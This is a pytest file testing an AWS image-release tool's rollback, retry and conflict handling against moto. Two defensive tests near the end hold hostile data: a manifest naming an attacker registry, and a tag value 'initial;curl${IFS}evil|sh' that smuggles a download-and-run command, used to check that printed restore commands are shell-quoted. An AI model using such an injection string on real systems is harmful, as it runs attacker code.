"""Release in-process against moto: the happy path, idempotency, and fault injection.

Every failure test ends by checking that nothing was lost: the tag parameter and each
function's image are exactly what they were before the release began.
"""

import json
import shlex

import pytest

from app.deploy.exceptions import (
    AwsAccessError,
    ImageTagNotFoundError,
    InvalidTargetError,
    MalformedTagError,
    ReleaseFailedError,
    RestoreFailedError,
    UnknownImageError,
    UntrustedRegistryError,
)
from app.deploy.release import result_summary

from .fakes import NEW, NEWER, OLD, FaultyClient, client_error, fail_times, fail_when


def tag_writes(ssm, stack, image="lambda"):
    """PutParameter calls on the image's tag parameter (not its lock or record)."""
    name = stack.images[image]["tagParameter"]
    return [c for c in ssm.calls_to("put_parameter") if c["Name"] == name]


def test_release_moves_every_function_and_the_parameter(released, make_releaser, events):
    lambda_ = FaultyClient(released.lambda_)

    result = make_releaser(lambda_=lambda_).release("lambda", NEW, imagedefinitions=None)

    new_uri = released.uri("lambda", NEW)
    assert released.state("lambda") == {
        "tag": NEW,
        "functions": {fn: new_uri for fn in released.functions("lambda")},
    }
    assert not result.noop
    assert result.previous_tag == OLD
    assert result.parameter_changed
    assert {t.name: (t.previous_image, t.action) for t in result.targets} == {
        fn: (released.uri("lambda", OLD), "updated") for fn in released.functions("lambda")
    }
    assert sorted(c["FunctionName"] for c in lambda_.calls_to("update_function_code")) == sorted(
        released.functions("lambda")
    )
    assert {target for target, message in events if message == "verified"} >= set(
        released.functions("lambda")
    )
    assert "released bbbbbbb (was aaaaaaa)" in result_summary(result)


def test_release_of_the_current_tag_is_a_noop(released, make_releaser, events):
    lambda_ = FaultyClient(released.lambda_)
    ssm = FaultyClient(released.ssm)
    versions_before = len(released.history("lambda"))

    result = make_releaser(lambda_=lambda_, ssm=ssm).release("lambda", OLD, imagedefinitions=None)

    assert result.noop
    assert lambda_.calls_to("update_function_code") == []
    assert tag_writes(ssm, released) == []
    assert len(released.history("lambda")) == versions_before
    assert ("lambda", "aaaaaaa is already released; nothing to change") in events
    assert "already released; nothing changed" in result_summary(result)


def test_release_updates_only_drifted_functions_when_the_tag_is_recorded(released, make_releaser):
    drifted = released.functions("lambda")[2]
    released.set_function_image(drifted, released.uri("lambda", NEW))
    lambda_ = FaultyClient(released.lambda_)

    result = make_releaser(lambda_=lambda_).release("lambda", OLD, imagedefinitions=None)

    assert [c["FunctionName"] for c in lambda_.calls_to("update_function_code")] == [drifted]
    assert not result.parameter_changed
    assert not result.noop
    assert set(released.function_images("lambda").values()) == {released.uri("lambda", OLD)}


def test_ecs_targets_get_imagedefinitions(stack, make_releaser, tmp_path):
    stack.add_image("web", ecs_services=2)
    stack.push("web", NEW)
    path = tmp_path / "imagedefinitions.json"

    result = make_releaser().release("web", NEW, imagedefinitions=path)

    # Both services run container "web": CodePipeline needs one entry per container name.
    assert json.loads(path.read_text()) == [{"name": "web", "imageUri": stack.uri("web", NEW)}]
    assert result.imagedefinitions == str(path)
    assert stack.recorded_tag("web") == NEW
    assert [t.action for t in result.targets] == ["imagedefinitions", "imagedefinitions"]


def test_no_imagedefinitions_without_ecs_targets(released, make_releaser, tmp_path):
    path = tmp_path / "imagedefinitions.json"

    result = make_releaser().release("lambda", NEW, imagedefinitions=path)

    assert result.imagedefinitions is None
    assert not path.exists()


# -- bad input: exit 2, nothing touched ----------------------------------------------


@pytest.mark.parametrize(
    ("image", "tag", "error", "match"),
    [
        ("nope", NEW, UnknownImageError, r"image 'nope' is not in .*known images: lambda"),
        ("lambda", "latest", MalformedTagError, r"'latest' is malformed"),
        ("lambda", "BBBBBBB", MalformedTagError, r"7 to 40 lowercase hex"),
        ("lambda", NEWER, ImageTagNotFoundError, r"tag ccccccc is not in ECR repository"),
    ],
)
def test_bad_input_is_refused_before_anything_changes(
    released, make_releaser, image, tag, error, match
):
    before = released.state("lambda")
    lambda_ = FaultyClient(released.lambda_)
    ssm = FaultyClient(released.ssm)

    with pytest.raises(error, match=match) as raised:
        make_releaser(lambda_=lambda_, ssm=ssm).release(image, tag, imagedefinitions=None)

    assert raised.value.exit_code == 2
    assert released.state("lambda") == before
    assert lambda_.calls_to("update_function_code") == []
    assert tag_writes(ssm, released) == []
    assert released.lock_value("lambda") is None


def test_missing_function_is_bad_input(released, make_releaser):
    released.lambda_.delete_function(FunctionName=released.functions("lambda")[1])
    ssm = FaultyClient(released.ssm)

    with pytest.raises(InvalidTargetError, match=r"demo-test-lambda-1, named in the deploy"):
        make_releaser(ssm=ssm).release("lambda", NEW, imagedefinitions=None)

    assert tag_writes(ssm, released) == []
    assert released.recorded_tag("lambda") == OLD


def test_reads_report_the_first_failed_step_when_several_fail(released, make_releaser):
    # The ECR check, the parameter read and the function reads run side by side; the
    # error is still the earliest step's: the missing tag, not the missing function.
    released.lambda_.delete_function(FunctionName=released.functions("lambda")[0])
    released.ssm.delete_parameter(Name=released.images["lambda"]["tagParameter"])
    ssm = FaultyClient(released.ssm)

    with pytest.raises(ImageTagNotFoundError, match=r"tag ccccccc is not in ECR repository"):
        make_releaser(ssm=ssm).release("lambda", NEWER, imagedefinitions=None)

    assert tag_writes(ssm, released) == []
    with pytest.raises(InvalidTargetError, match=r"/demo/test/images/lambda/tag does not exist"):
        make_releaser().release("lambda", NEW, imagedefinitions=None)


def test_zip_function_is_bad_input(stack, make_releaser):
    stack.add_image("lambda", functions=1)
    stack.push("lambda", NEW)
    stack.lambda_.create_function(
        FunctionName="zipped",
        Role=stack.role_arn,
        Runtime="python3.12",
        Handler="x.handler",
        Code={"ZipFile": b"PK\x05\x06" + b"\x00" * 18},
    )
    stack.images["lambda"]["lambdaFunctions"].append("zipped")
    stack.publish_manifest()

    with pytest.raises(InvalidTargetError, match=r"zipped is not a container-image function"):
        make_releaser().release("lambda", NEW, imagedefinitions=None)

    assert stack.recorded_tag("lambda") == "initial"


def test_missing_tag_parameter_is_bad_input(released, make_releaser):
    released.ssm.delete_parameter(Name=released.images["lambda"]["tagParameter"])
    lambda_ = FaultyClient(released.lambda_)

    with pytest.raises(InvalidTargetError, match=r"/demo/test/images/lambda/tag does not exist"):
        make_releaser(lambda_=lambda_).release("lambda", NEW, imagedefinitions=None)

    assert lambda_.calls_to("update_function_code") == []


def test_aws_error_before_any_change_fails_without_restoring(released, make_releaser):
    before = released.state("lambda")
    lambda_ = FaultyClient(
        released.lambda_,
        get_function=fail_when(lambda kw: True, "ServiceException", "GetFunction"),
    )

    with pytest.raises(ReleaseFailedError, match=r"failed before changing anything") as raised:
        make_releaser(lambda_=lambda_).release("lambda", NEW, imagedefinitions=None)

    assert raised.value.exit_code == 1
    assert lambda_.calls_to("update_function_code") == []
    assert released.state("lambda") == before
    assert released.lock_value("lambda") is None


def test_access_denied_before_any_change_is_exit_5(released, make_releaser):
    before = released.state("lambda")
    lambda_ = FaultyClient(
        released.lambda_,
        get_function=fail_when(lambda kw: True, "AccessDeniedException", "GetFunction"),
    )

    with pytest.raises(AwsAccessError, match=r"could not ask AWS: AccessDeniedException") as e:
        make_releaser(lambda_=lambda_).release("lambda", NEW, imagedefinitions=None)

    assert e.value.exit_code == 5
    assert lambda_.calls_to("update_function_code") == []
    assert released.state("lambda") == before


# -- failures after changes began: exit 1, everything restored -------------------------


@pytest.mark.parametrize("k", [0, 2, 4])
def test_kth_function_update_fails_and_everything_is_restored(released, make_releaser, k):
    before = released.state("lambda")
    failing = released.functions("lambda")[k]
    lambda_ = FaultyClient(
        released.lambda_,
        update_function_code=fail_when(
            lambda kw: kw["FunctionName"] == failing and kw["ImageUri"].endswith(NEW),
            "InvalidParameterValueException",
            "UpdateFunctionCode",
        ),
    )

    with pytest.raises(ReleaseFailedError, match=rf"{failing}: UpdateFunctionCode failed") as e:
        make_releaser(lambda_=lambda_).release("lambda", NEW, imagedefinitions=None)

    assert e.value.exit_code == 1
    assert released.state("lambda") == before
    assert f"SSM parameter /demo/test/images/lambda/tag back to {OLD!r}" in e.value.restored
    # The undone version is recorded, so a later rollback never returns to it; it is
    # not labelled, since a labelled oldest version blocks the parameter (issue 11.4).
    (undone,) = [v for v in released.history("lambda") if v["Value"] == NEW]
    assert not undone.get("Labels")
    assert released.failed_record("lambda") == {undone["Version"]: NEW}


def test_nth_update_call_fails_whichever_function_it_is(released, make_releaser):
    before = released.state("lambda")
    calls = []

    def third_call_fails(kwargs):
        calls.append(kwargs["FunctionName"])
        if len(calls) == 3:
            raise client_error("ServiceException", "UpdateFunctionCode")

    lambda_ = FaultyClient(released.lambda_, update_function_code=third_call_fails)

    with pytest.raises(ReleaseFailedError, match="ServiceException"):
        make_releaser(lambda_=lambda_).release("lambda", NEW, imagedefinitions=None)

    assert released.state("lambda") == before


def test_parameter_put_fails_and_no_function_is_touched(released, make_releaser):
    before = released.state("lambda")
    lambda_ = FaultyClient(released.lambda_)
    tag_parameter = released.images["lambda"]["tagParameter"]
    ssm = FaultyClient(
        released.ssm,
        put_parameter=fail_when(
            lambda kw: kw["Name"] == tag_parameter, "InternalServerError", "PutParameter"
        ),
    )

    with pytest.raises(ReleaseFailedError, match=r"InternalServerError") as raised:
        make_releaser(lambda_=lambda_, ssm=ssm).release("lambda", NEW, imagedefinitions=None)

    assert released.state("lambda") == before
    assert lambda_.calls_to("update_function_code") == []
    assert raised.value.restored == [f"SSM parameter /demo/test/images/lambda/tag still {OLD!r}"]


def test_update_reported_as_failed_is_restored(released, make_releaser):
    before = released.state("lambda")
    failing = released.functions("lambda")[1]

    def report_failed(kwargs, response):
        if kwargs["FunctionName"] == failing and response["Code"]["ImageUri"].endswith(NEW):
            response["Configuration"]["LastUpdateStatus"] = "Failed"
            response["Configuration"]["LastUpdateStatusReasonCode"] = "ImageAccessDenied"
        return response

    lambda_ = FaultyClient(released.lambda_, rewrite={"get_function": report_failed})

    with pytest.raises(ReleaseFailedError, match=rf"{failing}: update failed: ImageAccessDenied"):
        make_releaser(lambda_=lambda_).release("lambda", NEW, imagedefinitions=None)

    assert released.state("lambda") == before


def test_function_not_reporting_the_new_image_is_restored(released, make_releaser):
    before = released.state("lambda")
    liar = released.functions("lambda")[3]

    def report_other_image(kwargs, response):
        if kwargs["FunctionName"] == liar and response["Code"]["ImageUri"].endswith(NEW):
            response["Code"]["ImageUri"] = released.uri("lambda", NEWER)
        return response

    lambda_ = FaultyClient(released.lambda_, rewrite={"get_function": report_other_image})

    with pytest.raises(ReleaseFailedError, match=rf"{liar}: reports image .*:{NEWER}, expected"):
        make_releaser(lambda_=lambda_).release("lambda", NEW, imagedefinitions=None)

    assert released.state("lambda") == before


def test_interrupt_after_the_updates_is_restored(stack, make_releaser, tmp_path, events):
    stack.add_image("both", functions=2, ecs_services=1)
    stack.push("both", OLD)
    make_releaser().release("both", OLD, imagedefinitions=None)
    stack.push("both", NEW)
    before = stack.state("both")

    def interrupting_progress(target, message):
        if "imagedefinitions" in message:
            raise KeyboardInterrupt
        events.append((target, message))

    releaser = make_releaser(progress=interrupting_progress)

    with pytest.raises(ReleaseFailedError, match="KeyboardInterrupt"):
        releaser.release("both", NEW, imagedefinitions=tmp_path / "imagedefinitions.json")

    assert stack.state("both") == before


# -- retries -----------------------------------------------------------------------


def test_conflict_is_retried_with_backoff(released, make_releaser, sleeps, events):
    target = released.functions("lambda")[0]
    lambda_ = FaultyClient(
        released.lambda_,
        update_function_code=fail_times(
            2,
            "ResourceConflictException",
            "UpdateFunctionCode",
            lambda kw: kw["FunctionName"] == target,
        ),
    )

    make_releaser(lambda_=lambda_).release("lambda", NEW, imagedefinitions=None)

    updates = lambda_.calls_to("update_function_code")
    assert [c["FunctionName"] for c in updates].count(target) == 3
    assert (target, "ResourceConflictException, retrying (attempt 3)") in events
    assert len(sleeps) == 2
    assert set(released.function_images("lambda").values()) == {released.uri("lambda", NEW)}


@pytest.mark.parametrize("code", ["ThrottlingException", "TooManyRequestsException"])
def test_throttling_on_reads_is_retried(released, make_releaser, code):
    lambda_ = FaultyClient(
        released.lambda_,
        get_function=fail_times(3, code, "GetFunction", lambda kw: True),
    )

    result = make_releaser(lambda_=lambda_).release("lambda", NEW, imagedefinitions=None)

    assert not result.noop
    assert released.recorded_tag("lambda") == NEW


def test_conflict_that_never_clears_fails_and_restores(released, make_releaser):
    before = released.state("lambda")
    stuck = released.functions("lambda")[1]
    lambda_ = FaultyClient(
        released.lambda_,
        update_function_code=fail_when(
            lambda kw: kw["FunctionName"] == stuck,
            "ResourceConflictException",
            "UpdateFunctionCode",
        ),
    )

    with pytest.raises(ReleaseFailedError, match="ResourceConflictException"):
        make_releaser(lambda_=lambda_).release("lambda", NEW, imagedefinitions=None)

    attempts = [c for c in lambda_.calls_to("update_function_code") if c["FunctionName"] == stuck]
    assert len(attempts) == 6  # RetryPolicy.max_attempts, then give up
    assert released.state("lambda") == before


def test_update_in_progress_is_waited_for(released, make_releaser, sleeps):
    polls = {"count": 0}

    def in_progress_three_times(kwargs, response):
        if response["Code"]["ImageUri"].endswith(NEW) and polls["count"] < 3:
            polls["count"] += 1
            response["Configuration"]["LastUpdateStatus"] = "InProgress"
        return response

    lambda_ = FaultyClient(released.lambda_, rewrite={"get_function": in_progress_three_times})
    # One function at a time, so the pauses are predictable.
    releaser = make_releaser(lambda_=lambda_, max_concurrency=1)

    releaser.release("lambda", NEW, imagedefinitions=None)

    assert polls["count"] == 3
    assert len(sleeps) == 3
    assert set(released.function_images("lambda").values()) == {released.uri("lambda", NEW)}


# -- restore itself fails: exit 3, naming what needs attention -----------------------


def test_failed_function_restore_is_named(released, make_releaser):
    functions = released.functions("lambda")
    broken, unrestorable = functions[4], functions[0]
    old_uri = released.uri("lambda", OLD)
    lambda_ = FaultyClient(
        released.lambda_,
        update_function_code=fail_when(
            lambda kw: (
                (kw["FunctionName"] == broken and kw["ImageUri"].endswith(NEW))
                or (kw["FunctionName"] == unrestorable and kw["ImageUri"] == old_uri)
            ),
            "ServiceException",
            "UpdateFunctionCode",
        ),
    )
    releaser = make_releaser(lambda_=lambda_, max_concurrency=1)  # in order: 0..3 move, 4 fails

    with pytest.raises(RestoreFailedError) as raised:
        releaser.release("lambda", NEW, imagedefinitions=None)

    assert raised.value.exit_code == 3
    (attention,) = raised.value.needs_attention
    assert attention.startswith(f"Lambda function {unrestorable}: must be set back to {old_uri}")
    assert f"--function-name {unrestorable} --image-uri {old_uri}" in attention
    images = released.function_images("lambda")
    assert images.pop(unrestorable) == released.uri("lambda", NEW)
    assert set(images.values()) == {old_uri}
    assert released.recorded_tag("lambda") == OLD


def test_failed_parameter_restore_is_named(released, make_releaser):
    failing = released.functions("lambda")[2]
    lambda_ = FaultyClient(
        released.lambda_,
        update_function_code=fail_when(
            lambda kw: kw["FunctionName"] == failing, "ServiceException", "UpdateFunctionCode"
        ),
    )
    ssm = FaultyClient(
        released.ssm,
        put_parameter=fail_when(
            lambda kw: kw["Value"] == OLD, "InternalServerError", "PutParameter"
        ),
    )

    with pytest.raises(RestoreFailedError) as raised:
        make_releaser(lambda_=lambda_, ssm=ssm).release("lambda", NEW, imagedefinitions=None)

    (attention,) = raised.value.needs_attention
    assert attention.startswith(
        f"SSM parameter /demo/test/images/lambda/tag: must be set back to {OLD!r}"
    )
    assert set(released.function_images("lambda").values()) == {released.uri("lambda", OLD)}
    assert released.recorded_tag("lambda") == NEW  # exactly what the message says to fix


# -- revision guards: a change someone else made is reported, never overwritten -------


def test_a_function_changed_since_it_was_read_is_not_overwritten(released, make_releaser):
    before = released.state("lambda")
    changed = released.functions("lambda")[2]

    done: list[str] = []

    def infra_changes_it_first(kwargs):
        # Between this release's read and its update, someone else updates the function.
        if kwargs["FunctionName"] == changed and not done:
            done.append(changed)
            released.lambda_.update_function_configuration(
                FunctionName=changed, Description="changed by pulumi up"
            )

    lambda_ = FaultyClient(released.lambda_, update_function_code=infra_changes_it_first)

    with pytest.raises(ReleaseFailedError, match=rf"{changed}: changed by someone else") as e:
        make_releaser(lambda_=lambda_, max_concurrency=1).release(
            "lambda", NEW, imagedefinitions=None
        )

    assert e.value.exit_code == 1
    assert released.state("lambda") == before
    config = released.lambda_.get_function(FunctionName=changed)["Configuration"]
    assert config["Description"] == "changed by pulumi up"
    assert all(call["RevisionId"] for call in lambda_.calls_to("update_function_code"))


def test_a_restore_reports_a_function_someone_else_moved_on(released, make_releaser):
    functions = released.functions("lambda")
    moved, failing = functions[0], functions[3]
    released.push("lambda", NEWER)

    def move_then_fail(kwargs):
        if kwargs["FunctionName"] == failing:
            released.set_function_image(moved, released.uri("lambda", NEWER))
            raise client_error("ServiceException", "UpdateFunctionCode")

    lambda_ = FaultyClient(released.lambda_, update_function_code=move_then_fail)

    with pytest.raises(RestoreFailedError) as raised:
        make_releaser(lambda_=lambda_, max_concurrency=1).release(
            "lambda", NEW, imagedefinitions=None
        )

    (attention,) = raised.value.needs_attention
    assert attention.startswith(f"Lambda function {moved}: must be set back to")
    assert "changed by someone else after this release updated it" in attention
    assert "not overwritten" in attention
    assert released.function_images("lambda")[moved] == released.uri("lambda", NEWER)
    assert released.recorded_tag("lambda") == OLD


def test_an_update_whose_answer_was_lost_is_not_a_conflict(released, make_releaser):
    target = released.functions("lambda")[1]
    answers: list[object] = []

    def lose_first_answer(kwargs, response):
        if kwargs["FunctionName"] == target and not answers:
            answers.append(response)  # it landed; the caller never hears so, and retries
            raise client_error("TooManyRequestsException", "UpdateFunctionCode")
        return response

    lambda_ = FaultyClient(released.lambda_, rewrite={"update_function_code": lose_first_answer})

    result = make_releaser(lambda_=lambda_).release("lambda", NEW, imagedefinitions=None)

    assert not result.noop
    assert set(released.function_images("lambda").values()) == {released.uri("lambda", NEW)}


# -- the registry comes from AWS, not from the manifest (issue 15.6) --------------------


@pytest.mark.parametrize(
    "url",
    [
        "registry.attacker.example/demo-test-web",
        "999999999999.dkr.ecr.us-east-1.amazonaws.com/demo-test-web",
        "123456789012.dkr.ecr.eu-west-1.amazonaws.com/demo-test-web",
    ],
)
def test_a_manifest_naming_another_registry_is_refused(stack, make_releaser, tmp_path, url):
    stack.add_image("web", functions=1, ecs_services=1)
    stack.push("web", NEW)
    stack.images["web"]["repositoryUrl"] = url
    stack.publish_manifest()
    before = stack.state("web")
    path = tmp_path / "imagedefinitions.json"

    with pytest.raises(UntrustedRegistryError, match=r"refusing to release from another") as e:
        make_releaser().release("web", NEW, imagedefinitions=path)
    with pytest.raises(UntrustedRegistryError):
        make_releaser().exists("web", NEW)

    assert e.value.exit_code == 2
    assert "this account and region is '123456789012.dkr.ecr.us-east-1" in str(e.value)
    assert stack.state("web") == before
    assert not path.exists()
    assert stack.lock_value("web") is None


# -- printed commands are quoted (issue 15.7) ------------------------------------------


def test_printed_restore_commands_quote_every_value(released, make_releaser):
    hostile = "initial;curl${IFS}evil|sh"
    parameter = released.images["lambda"]["tagParameter"]
    released.ssm.put_parameter(Name=parameter, Value=hostile, Type="String", Overwrite=True)
    failing = released.functions("lambda")[0]
    lambda_ = FaultyClient(
        released.lambda_,
        update_function_code=fail_when(
            lambda kw: kw["FunctionName"] == failing, "ServiceException", "UpdateFunctionCode"
        ),
    )
    ssm = FaultyClient(
        released.ssm,
        put_parameter=fail_when(
            lambda kw: kw["Value"] == hostile, "InternalServerError", "PutParameter"
        ),
    )

    with pytest.raises(RestoreFailedError) as raised:
        make_releaser(lambda_=lambda_, ssm=ssm).release("lambda", NEW, imagedefinitions=None)

    (attention,) = raised.value.needs_attention
    command = shlex.join(
        ["aws", "ssm", "put-parameter", "--overwrite", "--name", parameter, "--value", hostile]
    )
    assert f"({command})" in attention
    assert shlex.split(command)[-1] == hostile  # pasting it runs one program, these arguments
